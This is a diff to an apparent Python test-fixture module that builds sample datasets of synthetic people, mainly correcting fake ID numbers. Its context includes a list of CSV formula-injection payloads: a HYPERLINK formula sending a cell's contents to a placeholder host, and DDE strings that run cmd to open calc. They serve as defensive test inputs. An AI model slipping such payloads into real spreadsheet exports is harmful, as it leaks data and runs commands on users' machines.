@@ -114,9 +114,9 @@ def make_feed_home(home: Path, catalog: Catalog, projects: int = 30) -> FeedHome
 
 #: Personal data of the home below (trainees, teachers, talent-demand contacts): none of it may reach
 #: a key without the personal grant, in any form. 王小明's ID is the one issue #15 recovered.
-PEOPLE = (("王小明", "310112199910069205", "13912345678"), ("欧阳娜娜", "31011019980521002X", "13687654321"),
-          ("司马光明", "310115200102030013", "18600001111"), ("李雷", "310110199507070035", "13500002222"),
-          ("韩梅梅", "310112199612120048", "13700003333"), ("诸葛青云", "310115199301010051", "15900004444"))
+PEOPLE = (("王小明", "310112199910069205", "13912345678"), ("欧阳娜娜", "310110199805210024", "13687654321"),
+          ("司马光明", "310115200102030016", "18600001111"), ("李雷", "310110199507070035", "13500002222"),
+          ("韩梅梅", "310112199612120041", "13700003333"), ("诸葛青云", "310115199301010055", "15900004444"))
 #: Text a spreadsheet would run as a formula if a CSV handed it over as it is (OWASP's six starts).
 FORMULAS = ('=HYPERLINK("http://example.invalid/?q="&A1,"点击")', "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
             "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
@@ -176,7 +176,7 @@ def make_every_dataset_home(home: Path, catalog: Catalog, rows: int = 6) -> Feed
         "teacher": person,
         "talent_demand": {"contact_name": person["name"], "phone": person["phone"]},
         "project": {"title": lambda i: FORMULAS[i % len(FORMULAS)],
-                    "budget_amount": lambda i: Decimal("-3.50") if i == 1 else Decimal("125000.50") + i},
+                    "budget_amount": lambda i: Decimal("-3.50") if i == 3 else Decimal("125000.50") + i},
         "notice": {"title": lambda i: FORMULAS[(i + 1) % len(FORMULAS)]},
         "organization": {"address": lambda i: FORMULAS[(i + 2) % len(FORMULAS)]},
     }
